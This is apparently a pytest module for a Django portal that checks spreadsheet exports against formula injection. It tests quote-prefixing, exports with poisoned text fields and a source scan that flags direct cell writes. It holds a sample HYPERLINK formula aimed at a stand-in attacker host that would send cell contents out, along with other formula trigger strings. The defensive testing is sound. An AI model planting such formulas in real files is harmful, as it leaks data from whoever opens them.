"""No export writes a live formula (issue #14, item 19): a contributor named
`=HYPERLINK("http://…"&A1,"Bấm vào đây")` is text in every .xlsx file, and the same text when
the file is imported back.

Three guards: the writer itself (`portal.dataexchange.xlsx_cell` and, for write-only sheets,
`xlsx_row`, every trigger character);
every .xlsx export URL (the query-count cases list them all, and their guard test fails when an
export has no case) with every text field of the database poisoned; and a source scan that
fails when a module writes workbook cells without the writer.
"""

from __future__ import annotations

import ast
import io
from pathlib import Path

import pytest
from django.apps import apps
from django.db import models
from django.db.models import F, Value
from django.db.models.functions import Concat, Left
from django.urls import reverse
from openpyxl import load_workbook

from portal.dataexchange import run_import, write_csv, write_xlsx
from tests.perf import builders as b
from tests.perf.builders import Ctx
from tests.perf.test_query_counts import CASES

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://lua-dao.example/?d="&A1,"Bấm vào đây")'
DANGEROUS = [HYPERLINK, "+84 905 123 456", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "=1+1"]
#: Prefixed to every text field of the database before each export is fetched.
POISON = "=1+1 "
ROOT = Path(__file__).resolve().parents[2]


def _cells(data: bytes):
    workbook = load_workbook(io.BytesIO(data))
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            yield from row


def test_the_writer_keeps_formula_like_text_as_text_and_numbers_as_numbers():
    data = write_xlsx(["Tên", "Số"], [[text, -5] for text in DANGEROUS] + [[-1.5, -7]])
    cells = list(_cells(data))
    assert [c for c in cells if c.data_type == "f"] == []
    texts = [c for c in cells if c.column == 1 and c.row > 1]
    assert [c.value for c in texts[:-1]] == DANGEROUS
    assert all(c.data_type == "s" for c in texts[:-1])
    assert all(c.quotePrefix for c in texts[:-1])  # Excel shows it as text, also when edited
    numbers = [c for c in cells if c.column == 2 and c.row > 1]
    assert {(c.data_type, c.value) for c in numbers} == {("n", -5), ("n", -7)}
    assert (texts[-1].data_type, texts[-1].value) == ("n", -1.5)


def test_a_poisoned_contributor_survives_an_export_and_import_as_the_same_text(world, tmp_path):
    from django.core.management import call_command

    from campaigns.models import Contribution

    header = "year,commune_code,contributor,contributor_kind,money_vnd,work_days,land_m2,note\n"
    name = HYPERLINK.replace('"', '""')
    data = (header + f'2024,XA-A,"{name}",person,1000000,1,0,"-giữ nguyên"\n').encode()
    assert run_import("contributions", data, "a.csv").created == 1
    for suffix in (".xlsx", ".csv"):
        path = tmp_path / f"dong-gop{suffix}"
        call_command("export_data", "contributions", str(path))
        if suffix == ".csv":
            assert f"'{HYPERLINK}".replace('"', '""') in path.read_text("utf-8-sig")
        else:
            assert all(c.data_type != "f" for c in _cells(path.read_bytes()))
        plan = run_import("contributions", path.read_bytes(), path.name, dry_run=True)
        assert (plan.errors, plan.created, plan.updated, plan.unchanged) == ([], 0, 0, 1)
    assert Contribution.objects.get().contributor == HYPERLINK


def test_a_csv_export_marks_formula_like_text_and_leaves_numbers_alone():
    text = write_csv(["a", "b", "c"], [["=1+1", -5, "'=x"]]).decode("utf-8-sig")
    assert text.splitlines()[1] == "'=1+1,-5,''=x"


def _poison_every_text_field() -> int:
    """Prefix POISON to every free-text column of the project's tables; returns rows touched."""
    touched = 0
    for model in apps.get_models():
        if model._meta.app_label not in {"portal", "units", "campaigns", "awards", "reports"}:
            continue
        if model.__name__.startswith("Historical"):
            continue
        if model._meta.label == "portal.AuditEvent":  # append-only (a trigger on PostgreSQL)
            continue
        fields = [
            f.name
            for f in model._meta.concrete_fields
            if isinstance(f, models.CharField | models.TextField)
            and not isinstance(f, models.EmailField | models.URLField | models.SlugField)
            and not f.choices
            and not f.primary_key
            and f.name not in {"code", "username", "password", "verification_code", "file"}
            and not f.name.endswith(("_code", "_hash", "sha256", "token", "key", "kind"))
        ]
        if fields:
            # Cut to the column's length: PostgreSQL refuses a longer value (SQLite does not).
            touched += model._default_manager.update(
                **{name: _poisoned(model._meta.get_field(name)) for name in fields}
            )
    return touched


def _poisoned(field: models.Field):
    value = Concat(Value(POISON), F(field.name))
    return Left(value, field.max_length) if field.max_length else value


XLSX_CASES = [c for c in CASES if c.xlsx]
#: Files with no free text in them (codes, numbers and levels only).
NO_FREE_TEXT = {"NTM export": "unit_code, year, criteria_met, level"}


@pytest.mark.parametrize("case", XLSX_CASES, ids=lambda c: c.id)
def test_no_export_writes_a_formula_from_what_people_typed(case, world, users, client_as):
    ctx = Ctx(world, users)
    case.grow(ctx, 0, 3)
    url = case.url(ctx)  # before poisoning: URLs may carry names
    assert _poison_every_text_field() > 0
    response = client_as(case.persona).get(url)
    assert response.status_code == 200
    cells = list(_cells(response.getvalue()))  # getvalue(): also a streamed export
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    poisoned = [c for c in cells if isinstance(c.value, str) and c.value.startswith(POISON)]
    assert poisoned or case.id in NO_FREE_TEXT, f"{case.id}: no text from the database in the file"


def test_the_tables_of_a_report_are_written_as_text(world, users, client_as):
    from reports.models import Report

    ctx = Ctx(world, users)
    b.reports(ctx, 0, 1, kinds=[("annual", 0)])
    report = Report.objects.get()
    report.tables = [
        {
            "title": "=Bảng 1",
            "columns": ["Đơn vị", "Giá trị"],
            "rows": [[HYPERLINK, -3], ["@x", 2.5]],
            "total": ["-Tổng", -0.5],
        }
    ]
    report.save(update_fields=["tables"])
    response = client_as("secretariat").get(reverse("reports:report-xlsx", args=[report.pk]))
    assert response.status_code == 200
    cells = [c for c in _cells(response.content) if c.value is not None]
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    assert {c.value for c in cells if c.data_type == "n"} == {-3, 2.5, -0.5}
    assert HYPERLINK in {c.value for c in cells}


def _writes_cells_itself(tree: ast.AST) -> list[int]:
    """Lines that write a worksheet cell other than through xlsx_cell."""
    lines = []
    for node in ast.walk(tree):
        if isinstance(node, ast.Call) and isinstance(node.func, ast.Attribute):
            name = node.func.attr
            if name == "cell" and (
                len(node.args) > 2 or any(k.arg == "value" for k in node.keywords)
            ):
                lines.append(node.lineno)
            if (
                name == "append"
                and isinstance(node.func.value, ast.Name)
                and node.func.value.id in {"ws", "sheet", "worksheet"}
            ):
                lines.append(node.lineno)
        if isinstance(node, ast.Assign | ast.AugAssign):
            targets = node.targets if isinstance(node, ast.Assign) else [node.target]
            for target in targets:
                if isinstance(target, ast.Attribute) and target.attr == "value":
                    lines.append(node.lineno)
    return sorted(lines)


#: Files that write workbooks which are not exports, with the reason.
NOT_EXPORTS = {"scripts/bench_import.py": "builds the import benchmark's input files"}
#: Exports on write-only sheets (no `cell()` to call xlsx_cell with), with the guard they use
#: instead and the test that proves it.
WRITE_ONLY = {
    "reports/annex.py": "annex._cell / annex._plain: xlsx_cell's rule on WriteOnlyCell "
    "(tests/reports/test_large_review.py::test_the_annex_keeps_formula_like_names_as_text)",
}


def test_every_workbook_is_written_through_the_one_writer():
    offenders = []
    for path in sorted(ROOT.glob("*/**/*.py")):
        rel = path.relative_to(ROOT).as_posix()
        if rel.startswith((".venv/", "tests/", "var/", "node_modules/")) or "/migrations/" in rel:
            continue
        if rel in NOT_EXPORTS or rel in WRITE_ONLY:
            continue
        source = path.read_text()
        if "openpyxl" not in source:
            continue
        lines = _writes_cells_itself(ast.parse(source))
        if rel == "portal/dataexchange.py":  # xlsx_cell itself, and write-only rows by xlsx_row
            text = source.splitlines()
            lines = [
                n
                for n in lines
                if "cell.value = value" not in text[n - 1] and "xlsx_row(" not in text[n - 1]
            ]
        offenders += [f"{rel}:{n}" for n in lines]
    assert offenders == []


def test_the_source_scan_would_see_a_direct_write():
    assert _writes_cells_itself(ast.parse("sheet.cell(row=1, column=1, value=x)")) == [1]
    assert _writes_cells_itself(ast.parse("ws.append([x])\nc.value = x")) == [1, 2]
    assert _writes_cells_itself(ast.parse("xlsx_cell(sheet, 1, 1, x)")) == []
